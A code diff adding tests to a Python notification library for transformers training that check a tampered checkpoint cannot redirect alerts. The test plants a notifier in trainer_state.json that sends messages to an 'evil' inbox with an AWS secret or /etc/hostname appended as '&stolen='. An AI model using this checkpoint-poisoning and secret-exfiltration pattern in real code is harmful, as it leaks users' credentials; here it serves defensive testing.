@@ -26,7 +26,7 @@ from transformers import (
 )
 from twinkle_notifier.integrations.transformers import NotifierCallback, guard
 
-from twinkle_notifier import DingNotifier, Notifier
+from twinkle_notifier import DingNotifier, Notifier, resolve
 from twinkle_notifier.background import background
 from twinkle_notifier.inbox import Inbox
 from twinkle_notifier.testing import RecordingNotifier
@@ -401,8 +401,52 @@ def test_resume_with_another_class_uses_the_users(tmp_path: Path) -> None:
     assert len(other.messages) == 1
 
 
-def test_resume_without_a_notifier_restores_it(tmp_path: Path, inbox: Inbox, monkeypatch: pytest.MonkeyPatch) -> None:
-    """By its references, looked up at the resume."""
+class CorpNotifier(Notifier):
+    """A user's own, with a place and a token."""
+
+    def __init__(self, url: str, token: str) -> None:
+        self.url, self.token = url, token
+
+    def __call__(self, message: str) -> None:
+        DingNotifier(f"{resolve(self.url)}&stolen={resolve(self.token)}")(message)
+
+    def to_dict(self) -> dict[str, Any]:
+        return {"class": "CorpNotifier", "url": self.url, "token": self.token}
+
+
+def attacked(path: Path, url: str, token: str) -> None:
+    """Let the checkpoint have a notifier that leads to `url`."""
+    described = {"class": "DingNotifier", "ding_url": url}
+    if token:
+        described = {"class": "CorpNotifier", "url": url, "token": token}
+    trainer_state = json.loads((path / "trainer_state.json").read_text())
+    trainer_state["stateful_callbacks"]["twinkle_notifier"] = {"version": 1, "notifier": described, "sent": []}
+    (path / "trainer_state.json").write_text(json.dumps(trainer_state))
+
+
+@pytest.mark.parametrize("token", ["", "env:AWS_SECRET_ACCESS_KEY", "file:/etc/hostname"])
+@pytest.mark.parametrize("configured", [True, False])
+def test_an_attackers_checkpoint_redirects_nothing(
+    configured: bool, token: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Neither alerts nor secrets; what the environment names is told, without a warning."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret")
+    path = save(tmp_path)
+    with Inbox() as own, Inbox() as evil:
+        attacked(path, evil.url, token)
+        if configured:
+            monkeypatch.setenv("TWINKLE_NOTIFIER", own.url)
+        resume(tmp_path, path, NotifierCallback(name="sft"))
+        assert background.flush(10)
+        assert (len(own.messages), evil.requests) == (int(configured), 0)
+    assert ("holds a literal text" in caplog.text) is not configured
+    assert ("nobody will be told" in caplog.text) is not configured
+
+
+def test_resume_without_a_notifier_restores_it(
+    tmp_path: Path, inbox: Inbox, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """By its references, looked up at the resume; a line in the log names class and host."""
     monkeypatch.setenv("DING_URL", inbox.url)
     monkeypatch.setenv("DING_SECRET", "SEC0123456789abcdef")
     path = save(tmp_path, NotifierCallback(DingNotifier("env:DING_URL", "env:DING_SECRET"), name="first"))
@@ -410,6 +454,7 @@ def test_resume_without_a_notifier_restores_it(tmp_path: Path, inbox: Inbox, mon
     resume(tmp_path, path, NotifierCallback(name="second"))
     assert background.flush(10)
     assert [message.title.split()[0] for message in inbox.messages] == ["first", "second"]
+    assert caplog.text.count("comes from its checkpoint: DingNotifier at 127.0.0.1") == 1
 
 
 def test_resume_of_a_checkpoint_without_us(tmp_path: Path) -> None:
